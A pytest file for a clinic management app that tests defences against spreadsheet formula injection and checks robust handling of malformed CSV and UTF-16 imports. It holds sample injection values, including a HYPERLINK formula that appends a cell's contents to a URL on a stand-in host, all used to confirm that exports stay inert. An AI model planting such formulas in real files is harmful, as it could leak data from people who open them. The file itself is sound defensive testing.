"""Spreadsheets in and out are inert: no export or report carries a live formula, an imported
``=1+1`` stays the text ``=1+1``, and a file with a huge cell, a UTF-16 encoding or a broken
character is read or refused in one sentence, never with a traceback."""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Sequence
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from sqlalchemy import select, update

from clinic_desktop.cli import EXIT_OK, EXIT_UNUSABLE, main
from clinic_desktop.clock import FixedClock
from clinic_desktop.context import Context
from clinic_desktop.importing.mapping import FIELDS, auto_map
from clinic_desktop.importing.reader import UnusableFile, read_sheet
from clinic_desktop.importing.rows import Problem, clean_sheet
from clinic_desktop.permissions import Role
from clinic_desktop.services import appointments as appts
from clinic_desktop.services import care, exports, schedule
from clinic_desktop.services.appointments import BookingRequest
from clinic_desktop.services.billing import TreatmentLine, record_visit
from clinic_desktop.services.imports import ImportRequest, run_import
from clinic_desktop.services.patients import PatientInput, create_patient
from clinic_desktop.services.staff import add_staff
from clinic_desktop.storage.models.clinical import LedgerEntry, Treatment, Visit
from clinic_desktop.storage.models.patient import Patient
from clinic_desktop.storage.models.schedule import Appointment
from clinic_desktop.xlsx_writer import XlsxColumn, XlsxSheet, write_xlsx
from tests.conftest import FIXED_NOW

SH = ZoneInfo("Asia/Shanghai")
TODAY = FIXED_NOW.astimezone(SH).date()
LINK = '=HYPERLINK("http://x/?"&A1,"click")'
# Text a spreadsheet would evaluate if typed in (OWASP's list of leading characters).
HOSTILE = (LINK, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")


def excel(day: date, hour: int = 0) -> datetime:
    """What openpyxl reads back from a date cell: a naive datetime (Excel has no zones)."""
    return datetime.combine(day, time(hour))


def read_back(value: str) -> str:
    """What any reader gets for ``value``: XML 1.0 turns every CR into LF (Excel too)."""
    return value.replace("\r", "\n")


# -- checking a saved workbook ---------------------------------------------------------------
def sheet_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as package:
        return [package.read(n).decode("utf-8") for n in package.namelist()
                if n.startswith("xl/worksheets/") and n.endswith(".xml")]


def all_cells(path: Path) -> list[Cell]:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell, Cell)]


def assert_inert(path: Path, texts: Sequence[str]) -> list[Cell]:
    """No formula anywhere in the file, and each of ``texts`` is a text cell, as written."""
    for xml in sheet_xml(path):
        assert re.search(r"<f[ >/]", xml) is None, "a formula was written"
        assert 't="str"' not in xml  # openpyxl's type for a formula's cached text
    cells = all_cells(path)
    found = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in texts:
        cell = found.get(read_back(text))
        assert cell is not None, f"{text!r} is missing"
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    return cells


def by_title(path: Path) -> dict[str, list[object]]:
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return {str(title): [row[i] for row in rows[1:]] for i, title in enumerate(rows[0])}


# -- a clinic whose records carry formula-like text --------------------------------------------
@pytest.fixture
def hostile_clinic(admin_ctx: Context) -> dict[str, int]:
    doctor = add_staff(admin_ctx, username="dr.wang", display_name="王建国", role=Role.DOCTOR,
                       password="pass1234", is_doctor=True).id
    schedule.set_working_hours(admin_ctx, doctor, schedule.default_hours())
    patient = create_patient(admin_ctx, PatientInput(
        name="张三", mobile="13800138000", birth_date=date(1985, 3, 12), sex="M")).patient.id
    record_visit(admin_ctx, patient, visit_date=date(2026, 11, 20), doctor_id=doctor,
                 lines=[TreatmentLine(None, Decimal("1234.50"), procedure_name="洁牙")])
    start = datetime(2026, 11, 26, 10, tzinfo=SH)
    appts.book(admin_ctx, BookingRequest(patient, doctor, start, start + timedelta(minutes=30)))
    # Written straight to the tables: an export must be safe whatever a record holds (an
    # older version, another workstation or a database tool may have put it there).
    link, plus, minus, at, tab, cr = HOSTILE
    with admin_ctx.db.session(write=True) as session:
        session.execute(update(Patient).values(
            name=link, wechat=plus, occupation=minus, address=at, phone2=tab, notes=cr,
            member_points=7))
        session.execute(update(Appointment).values(
            notes=link, cancel_reason=plus, override_reason=minus, channel=at))
        session.execute(update(Visit).values(notes=link))
        session.execute(update(Treatment).values(procedure_name=plus, site=minus))
        session.execute(update(LedgerEntry).values(note=at, method=tab))
    return {"doctor": doctor, "patient": patient}


def test_patient_export_writes_formula_like_text_as_text(
        admin_ctx: Context, hostile_clinic: dict[str, int], tmp_path: Path) -> None:
    path = tmp_path / "patients.xlsx"
    assert exports.export_patients(admin_ctx, path) == 1
    assert_inert(path, HOSTILE)
    columns = by_title(path)
    assert columns["出生日期"] == [excel(date(1985, 3, 12))]  # dates stay dates
    assert columns["积分"] == [7]  # numbers stay numbers


def test_appointment_export_writes_formula_like_text_as_text(
        admin_ctx: Context, hostile_clinic: dict[str, int], tmp_path: Path) -> None:
    path = tmp_path / "appointments.xlsx"
    assert exports.export_appointments(admin_ctx, path) == 1
    assert_inert(path, HOSTILE[:4])
    assert by_title(path)["开始"] == [excel(date(2026, 11, 26), 10)]


def test_visit_export_writes_formula_like_text_as_text(
        admin_ctx: Context, hostile_clinic: dict[str, int], tmp_path: Path) -> None:
    path = tmp_path / "visits.xlsx"
    assert exports.export_visits(admin_ctx, path) == 1
    assert_inert(path, HOSTILE[:3])
    columns = by_title(path)
    assert columns["金额"] == [1234.5] and columns["就诊日期"] == [excel(date(2026, 11, 20))]


def test_ledger_export_writes_formula_like_text_as_text(
        admin_ctx: Context, hostile_clinic: dict[str, int], tmp_path: Path) -> None:
    path = tmp_path / "ledger.xlsx"
    assert exports.export_ledger(admin_ctx, path) == 1
    assert_inert(path, (LINK, "@SUM(1)", "\t=1"))
    columns = by_title(path)
    assert columns["金额"] == [1234.5] and isinstance(columns["时间"][0], datetime)


def test_callback_list_export_writes_formula_like_text_as_text(
        admin_ctx: Context, tmp_path: Path) -> None:
    link, plus, minus, at, tab, cr = HOSTILE
    item = care.CallbackItem(
        task_id=1, version=1, patient_id=1, patient=link, phone=plus, kind="recall",
        reason=minus, due=datetime(2026, 11, 24, 9, tzinfo=SH), attempts=2, last_outcome=None,
        procedure=at, doctor=tab, priority=0, has_allergy=False, birth_date=None)
    path = tmp_path / "callbacks.xlsx"
    care.export_callbacks(admin_ctx, [item], str(path))
    assert_inert(path, (link, plus, minus, at, tab))
    columns = by_title(path)
    assert columns["到期"] == [excel(date(2026, 11, 24), 9)] and columns["已拨打"] == [2]


def test_error_report_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    problems = [Problem(3, "备注", value, "原因") for value in HOSTILE]
    path = tmp_path / "errors.xlsx"
    exports.write_error_report(path, problems, header=["姓名", "=1+1"],
                               originals={3: ["=1+1", "@SUM(A1)"]})
    assert_inert(path, (*HOSTILE, "=1+1", "@SUM(A1)"))  # the imported header included
    assert by_title(path)["原表行号"] == [3] * len(HOSTILE)


def test_import_template_writes_formula_like_text_as_text(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The template's examples are ours, but they go through the same writer as the rest.
    fields = [dataclasses.replace(f, example=HOSTILE[i % len(HOSTILE)])
              if f.key in ("notes", "address") else f for i, f in enumerate(FIELDS)]
    monkeypatch.setattr(exports, "FIELDS", fields)
    path = tmp_path / "template.xlsx"
    exports.write_import_template(path)
    assert_inert(path, [read_back(f.example) for f in fields if f.key in ("notes", "address")])


def test_the_writer_never_fails_on_a_character_xml_cannot_carry(tmp_path: Path) -> None:
    path = tmp_path / "odd.xlsx"
    write_xlsx(path, [XlsxSheet("s", [XlsxColumn("备注")], [["甲\x01乙"], ["丙\ud800"]])])
    assert by_title(path)["备注"] == ["甲乙", "丙\ufffd"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_and_evaluates_nothing(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    write_xlsx(path, [XlsxSheet("s", [XlsxColumn("a")], [["=1+1"], [LINK]])])
    subprocess.run(["soffice", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(tmp_path / "out"), str(path)],
                   check=True, capture_output=True, timeout=180)
    with (tmp_path / "out" / "s.csv").open(encoding="utf-8", newline="") as stream:
        assert list(csv.reader(stream)) == [["a"], ["=1+1"], [LINK]]  # not 2, not "click"


# -- imported formula-like text stays text -----------------------------------------------------
def _stored(ctx: Context) -> dict[str, tuple[str, str, str | None, str | None]]:
    with ctx.db.session() as session:
        return {p.mobile or "": (p.name, p.notes, p.address, p.occupation)
                for p in session.execute(select(Patient)).scalars()}


def test_formula_like_values_import_as_typed_and_export_as_text(
        admin_ctx: Context, tmp_path: Path) -> None:
    header = ["姓名", "手机", "地址", "职业", "备注"]
    csv_path = tmp_path / "legacy.csv"
    csv_path.write_text(
        ",".join(header) + "\r\n"
        + '张三,13800138000,@SUM(A1),+1,=1+1\r\n'
        + '李四,13900139000,"=HYPERLINK(""http://x/?""&A1,""click"")",-2+3,@SUM(1)\r\n'
        + '=1+1,13600136000,,,\r\n',  # a name is only checked for its length
        encoding="utf-8")
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(header)
    sheet.append(["王五", "13700137000", "=1+1", "+1", "@SUM(A1)"])
    sheet["C2"].data_type = "s"  # a text cell that only looks like a formula, as Excel keeps '=1+1
    book.save(tmp_path / "legacy.xlsx")
    for path in (csv_path, tmp_path / "legacy.xlsx"):
        summary = run_import(admin_ctx, ImportRequest(path))
        assert summary.rows_rejected == 0, summary.errors
    assert _stored(admin_ctx) == {
        "13800138000": ("张三", "=1+1", "@SUM(A1)", "+1"),
        "13900139000": ("李四", "@SUM(1)", LINK, "-2+3"),
        "13600136000": ("=1+1", "", None, None),
        "13700137000": ("王五", "@SUM(A1)", "=1+1", "+1")}
    out = tmp_path / "again.xlsx"
    assert exports.export_patients(admin_ctx, out) == 4
    assert_inert(out, ("=1+1", "@SUM(A1)", "+1", "@SUM(1)", LINK, "-2+3"))


# -- files the reader must read, or refuse in one sentence --------------------------------------
def _huge_cell_csv(path: Path) -> Path:
    """Row 3 opens a quote that is never closed: the rest of the file becomes one cell."""
    lines = ["姓名,手机,备注", "张三,13800138000,好", '李四,13900139000,"没有闭合的引号']
    lines += [f"王{i},1370013{i:04d},备注{i}" for i in range(9000)]
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    return path


def test_a_csv_cell_over_the_field_limit_refuses_the_file_naming_the_row(
        tmp_path: Path) -> None:
    path = _huge_cell_csv(tmp_path / "broken.csv")
    with pytest.raises(UnusableFile, match=r"“broken\.csv”第 3 行有一个单元格超过 131072 个字符"):
        read_sheet(path)


def test_the_cli_refuses_a_csv_with_a_huge_cell_in_one_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "clinic"
    clock = FixedClock(FIXED_NOW)
    (tmp_path / "pw.txt").write_text("s3cret-pass\n", encoding="utf-8")
    assert main(["--lang", "zh_CN", "--data-dir", str(folder), "setup", "--clinic-name", "测试",
                 "--admin", "admin", "--password-file", str(tmp_path / "pw.txt")],
                out=io.StringIO(), clock=clock) == EXIT_OK
    capsys.readouterr()
    database = (folder / "clinic.sqlite3").read_bytes()
    path = _huge_cell_csv(tmp_path / "broken.csv")
    code = main(["--lang", "zh_CN", "--data-dir", str(folder), "import", str(path)],
                out=io.StringIO(), clock=clock)
    err = capsys.readouterr().err
    assert code == EXIT_UNUSABLE
    assert err.count("\n") == 1 and "“broken.csv”第 3 行" in err and "Traceback" not in err
    assert (folder / "clinic.sqlite3").read_bytes() == database  # nothing written


UTF16_HEADER = ["姓名", "手机", "地址", "备注"]
UTF16_ROWS = [["张三", "13800138000", "北京市朝阳区", "青霉素过敏"],
              ["李四", "13900139000", "上海市, 浦东新区", "=1+1"]]


def _utf16_csv(path: Path, bom: bytes, encoding: str, separator: str,
               rows: Sequence[Sequence[str]]) -> Path:
    def field(value: str) -> str:
        return f'"{value}"' if separator in value else value

    text = "".join(separator.join(field(v) for v in row) + "\r\n" for row in rows)
    path.write_bytes(bom + text.encode(encoding))
    return path


UTF16 = [(codecs.BOM_UTF16_LE, "utf-16-le"), (codecs.BOM_UTF16_BE, "utf-16-be")]


@pytest.mark.parametrize("separator", [",", "\t"], ids=["comma", "tab"])
@pytest.mark.parametrize(("bom", "encoding"), UTF16, ids=["le", "be"])
def test_utf16_csv_with_a_bom_is_read(admin_ctx: Context, tmp_path: Path, bom: bytes,
                                      encoding: str, separator: str) -> None:
    path = _utf16_csv(tmp_path / "unicode.txt", bom, encoding, separator,
                      [UTF16_HEADER, *UTF16_ROWS])
    assert read_sheet(path).rows == [UTF16_HEADER, *UTF16_ROWS]
    summary = run_import(admin_ctx, ImportRequest(path), dry_run=True)
    assert (summary.patients_created, summary.rows_rejected) == (2, 0)
    assert list(summary.header) == UTF16_HEADER


def test_utf16_without_a_bom_is_refused_saying_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "no-bom.csv"
    path.write_bytes("姓名\t手机\r\n张三\t13800138000\r\n".encode("utf-16-le"))
    with pytest.raises(UnusableFile, match=r"“no-bom\.csv”.*另存为.*CSV UTF-8"):
        read_sheet(path)


def test_a_broken_character_in_a_utf16_file_rejects_its_row_by_name(
        admin_ctx: Context, tmp_path: Path) -> None:
    path = _utf16_csv(tmp_path / "broken.csv", codecs.BOM_UTF16_LE, "utf-16-le", "\t",
                      [UTF16_HEADER, *UTF16_ROWS])
    lone = "\ud800".encode("utf-16-le", "surrogatepass")  # half of a character, as Excel
    raw = path.read_bytes().replace("青霉素".encode("utf-16-le"), lone + "霉素".encode(
        "utf-16-le"))                                     # keeps it after a cut-off emoji
    path.write_bytes(raw)
    summary = run_import(admin_ctx, ImportRequest(path))
    assert summary.rows_rejected == 1 and summary.patients_created == 1
    [problem] = summary.errors
    assert (problem.row, problem.column, problem.value) == (2, "备注", "\ufffd霉素过敏")
    assert "无法识别的字符" in problem.reason
    assert _stored(admin_ctx) == {"13900139000": ("李四", "=1+1", "上海市, 浦东新区", None)}


def test_cleaning_refuses_a_lone_surrogate_by_row_and_column() -> None:
    header = ["姓名", "手机", "备注"]
    rows: list[list[Any]] = [header, ["张\ud800", "13800138000", "好"],
                             ["李四", "13900139000", "a\udfffb"], ["王五", "13700137000", "好"]]
    result = clean_sheet(rows, header_index=0, mapping=auto_map(header), labels=header,
                         today=TODAY, sources=[])
    assert [r.person.name for r in result.rows] == ["王五"]
    assert [(p.row, p.column, p.value) for p in result.errors] == [
        (2, "姓名", "张\ufffd"), (3, "备注", "a\ufffdb")]
    assert all("无法识别的字符" in p.reason for p in result.errors)
    # What is reported can be printed, stored and written: no lone surrogate is left.
    for text in [*(p.value for p in result.errors),
                 *(v for row in result.originals.values() for v in row)]:
        text.encode("utf-8")
